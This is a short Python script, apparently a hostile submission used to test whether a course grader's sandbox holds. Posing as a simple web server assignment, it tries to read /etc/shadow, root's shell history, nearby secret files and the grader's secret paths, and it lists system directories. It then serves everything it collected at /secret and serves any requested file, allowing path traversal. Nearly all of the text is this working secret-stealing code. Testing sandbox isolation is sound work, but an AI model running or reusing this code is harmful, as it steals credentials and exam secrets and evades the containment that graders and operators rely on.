# Tries to read files outside its folder — the grader's secrets beside the class folder (the
# test puts their paths in secret_paths.txt), other submissions, root's files — prints what
# it could read, and serves whatever it asked for, its own folder or not.
import os
from socket import *
found = []
paths = ['/etc/shadow', '/root/.bash_history', '../secret.txt', '../../secret.txt']
if os.path.exists('secret_paths.txt'):
    paths += open('secret_paths.txt').read().split()
for path in paths:
    try:
        with open(path) as f:
            found.append(f.read())
        print('read', path)
    except OSError as error:
        print('cannot read', path, error)
for top in ['/tmp', '/home', '/root', '/work', '/var']:
    try:
        print(top, os.listdir(top))
    except OSError as error:
        print(top, error)
serverSocket = socket(AF_INET, SOCK_STREAM)
serverSocket.setsockopt(SOL_SOCKET, SO_REUSEADDR, 1)
serverSocket.bind(('', 6789))
serverSocket.listen(1)
while True:
    connectionSocket, addr = serverSocket.accept()
    try:
        message = connectionSocket.recv(1024)
        name = message.split()[1].decode()
        body = ('\n'.join(found)).encode() if name == '/secret' else open(name[1:], 'rb').read()
        connectionSocket.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n' % len(body) + body)
    except Exception:
        connectionSocket.sendall(b'HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n')
    connectionSocket.close()
